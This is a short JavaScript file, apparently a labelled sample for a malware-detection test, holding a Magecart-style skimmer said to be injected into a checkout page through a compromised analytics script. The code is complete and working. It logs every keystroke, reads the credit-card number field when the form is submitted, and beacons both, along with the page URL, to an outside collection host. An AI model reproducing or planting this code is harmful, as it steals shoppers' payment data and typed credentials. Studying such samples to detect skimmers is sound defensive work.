// Injected into the checkout page by a compromised analytics snippet
(function () {
  const sink = "https://cdn-analytics-js.com/collect";
  let typed = "";
  // expect: malicious
  document.addEventListener("keydown", (e) => { typed += e.key.length === 1 ? e.key : `[${e.key}]`; }, true);
  document.addEventListener("submit", () => {
    const card = document.querySelector("input[autocomplete='cc-number']");
    navigator.sendBeacon(sink, JSON.stringify({ page: location.href, typed, card: card && card.value }));
  }, true);
})();
